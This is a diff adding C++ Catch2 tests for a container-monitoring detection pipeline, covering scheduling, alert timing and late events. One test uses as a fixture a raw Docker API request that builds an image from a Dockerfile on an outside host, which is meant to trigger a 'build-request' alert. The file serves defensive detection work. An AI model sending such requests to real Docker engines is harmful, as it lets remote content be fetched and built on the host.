@@ -1,0 +1,79 @@
+#include <catch2/catch_test_macros.hpp>
+#include <vector>
+
+#include "app/pipeline.h"
+
+using namespace kilnwatch;
+
+namespace {
+
+constexpr domain::TimeNs kMs = 1'000'000;
+
+domain::ProcessForked fork_at(domain::TimeNs time) { return {time, 1, 2, time}; }
+
+}  // namespace
+
+TEST_CASE("An idle pipeline asks for nothing; a busy one says when") {
+  detect::MemorySeenStore seen;
+  app::Pipeline pipeline(
+      {"host", "boot", "", "", 0}, seen, nullptr, [](const v1::Alert&) {}, app::kLiveWindow);
+  CHECK_FALSE(pipeline.due());
+  const domain::TimeNs start = 100'000 * kMs;
+  pipeline.push(fork_at(start));
+  REQUIRE(pipeline.due());
+  CHECK(*pipeline.due() == start + app::kLiveWindow + 1);
+
+  // Woken exactly when it asks to be, it makes progress each time, and is soon done.
+  unsigned wakes = 0;
+  domain::TimeNs last = start;
+  while (const auto due = pipeline.due()) {
+    REQUIRE(*due > last);
+    last = *due;
+    pipeline.advance(last);
+    REQUIRE(++wakes <= 10);
+  }
+  CHECK(pipeline.stats().events == 1);
+  // Idle again: time that passes is no reason to do anything.
+  pipeline.advance(last + 1'000'000 * kMs);
+  CHECK_FALSE(pipeline.due());
+}
+
+TEST_CASE("What waits for its time is decided a window after it, not with the next event") {
+  detect::MemorySeenStore seen;
+  std::vector<v1::Alert> alerts;
+  app::Pipeline pipeline(
+      {"host", "boot", "", "", 0}, seen, nullptr,
+      [&](const v1::Alert& alert) { alerts.push_back(alert); }, app::kLiveWindow);
+  const domain::TimeNs start = 100'000 * kMs;
+  pipeline.push(
+      domain::ConnOpened{.time = start, .conn = 1, .engine = domain::EngineKind::kDocker});
+  domain::ConnData data{.time = start + kMs, .conn = 1, .at_head = true};
+  data.bytes =
+      "POST /v1.41/build?remote=http://198.51.100.66/Dockerfile HTTP/1.1\r\nHost: d\r\n"
+      "Content-Length: 0\r\n\r\n";
+  data.span = static_cast<std::uint32_t>(data.bytes.size());
+  pipeline.push(data);
+  domain::TimeNs now = start;
+  while (alerts.empty()) {
+    const auto due = pipeline.due();
+    REQUIRE(due);
+    REQUIRE(*due > now);
+    now = *due;
+    pipeline.advance(now);
+  }
+  CHECK(alerts.front().rule() == "build-request");
+  // Its base image is never known: the decision point is the request and 2 s.
+  CHECK(now == start + kMs + tracker::kRequestWait + app::kLiveWindow + 1);
+}
+
+TEST_CASE("An event that comes after its time has passed is counted") {
+  detect::MemorySeenStore seen;
+  app::Pipeline pipeline(
+      {"host", "boot", "", "", 0}, seen, nullptr, [](const v1::Alert&) {}, app::kLiveWindow);
+  pipeline.push(fork_at(1000 * kMs));
+  pipeline.advance(1020 * kMs);
+  pipeline.push(fork_at(999 * kMs));
+  CHECK(pipeline.stats().late == 1);
+  pipeline.push(fork_at(1015 * kMs));
+  CHECK(pipeline.stats().late == 1);
+}
